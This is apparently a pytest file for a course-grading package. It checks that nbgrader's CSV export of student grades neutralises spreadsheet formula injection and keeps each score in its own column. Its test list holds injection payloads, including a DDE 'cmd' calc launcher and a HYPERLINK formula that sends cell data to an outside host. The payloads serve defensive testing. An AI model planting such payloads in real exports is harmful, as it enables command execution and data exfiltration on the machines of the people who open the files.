"""grades.csv: no name moves a score into another column, and none runs in the instructor's spreadsheet."""

import csv
import io
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from crmlab.environment import commands_first
from crmlab.grading.exporting import COLUMNS, as_csv

REPOSITORY = Path(__file__).parents[2]
CONFIG = REPOSITORY / "nbgrader_config.py"
ARMED = [
    "=1+1",
    '=HYPERLINK("http://x.cn?"&A1,"grades")',
    "@SUM(A1:A9)",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＠SUM(A1)",
    '"=1+1',
    "Doe;=1+1",
    "Doe, =1+1",
    'Doe";"=1+1";"',
    "Doe\t=1+1",
    "Doe\n=1+1",
    "Doe|=1+1",
]


def cells_of(text, separator):
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


@pytest.mark.parametrize("name", ARMED)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "bar"])
def test_no_name_is_a_formula_at_whatever_sign_a_spreadsheet_parts_the_cells(name, separator):
    text = as_csv(["name", "score", "email"], [{"name": name, "score": -1.5, "email": name}])
    armed = [cell for cell in cells_of(text, separator) if re.match(r"""[\s"]*[=+\-@＝＋－＠]""", cell)]
    assert [cell for cell in armed if not cell.startswith("-1.5")] == []


@pytest.mark.parametrize(
    "name",
    ["Doe, Jane", 'Jane "JD" Doe', "O'Neil", "Anne-Marie", "张伟", "s[1]", "a@b.cn", "{0}", "%s", "a=b"],
)
def test_a_name_that_only_looks_odd_arrives_as_it_is_and_the_scores_stay_numbers(name):
    text = as_csv(["name", "score"], [{"name": name, "score": 2.5}, {"name": None, "score": -1}])
    assert cells_of(text, ",") == ["name", "score", name, "2.5", "", "-1"]


def export(course, *options):
    """Run nbgrader's own command in a course folder, as a configuration of ours has it."""
    environment = os.environ | {"PATH": commands_first(), "PYTHONPATH": str(REPOSITORY)}
    environment |= dict.fromkeys(["HOME", "JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR"], str(course))
    command = [sys.executable, "-m", "nbgrader", "export", *options]
    done = subprocess.run(
        command, cwd=course, env=environment, capture_output=True, encoding="utf-8", check=False
    )
    assert done.returncode == 0, done.stderr


def by_student(path):
    with path.open(encoding="utf-8", newline="") as file:
        return {row["student_id"]: row for row in csv.DictReader(file)}


def test_nbgraders_export_gives_each_student_his_own_score_whatever_he_is_called(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", commands_first())
    shutil.copy(CONFIG, tmp_path)
    with Gradebook(f"sqlite:///{tmp_path}/gradebook.db", "crmlab") as book:
        book.add_assignment("clv", duedate="2026-11-01 12:00:00")
        book.add_notebook("clv", "clv")
        book.add_grade_cell("one", "clv", "clv", max_score=3, cell_type="code")
        book.add_student("jane", last_name="Doe, Jane", email="=1+1")
        for name, points in (("jane", 2.0), ("=1+1", 3.0), ("张伟", 1.0)):
            book.update_or_create_student(name)
            book.add_submission("clv", name)
            book.find_grade("one", "clv", "clv", name).auto_score = points
        book.find_submission_notebook("clv", "clv", "张伟").late_submission_penalty = 5
        book.add_student("absent")
        book.db.commit()
    export(tmp_path)
    rows = by_student(tmp_path / "grades.csv")
    assert {name: float(row["score"]) for name, row in rows.items()} == {
        "jane": 2.0,
        "'=1+1": 3.0,
        "张伟": 0.0,
        "absent": 0.0,
    }
    assert set(rows["jane"]) == set(COLUMNS)
    assert (rows["jane"]["last_name"], rows["jane"]["email"]) == ("Doe, Jane", "'=1+1")
    assert (rows["jane"]["max_score"], rows["jane"]["duedate"]) == ("3.0", "2026-11-01 12:00:00")
    export(tmp_path, "--to", "one.csv", "--student", "['jane']", "--assignment", "['clv']")
    assert by_student(tmp_path / "one.csv") == {"jane": rows["jane"]}
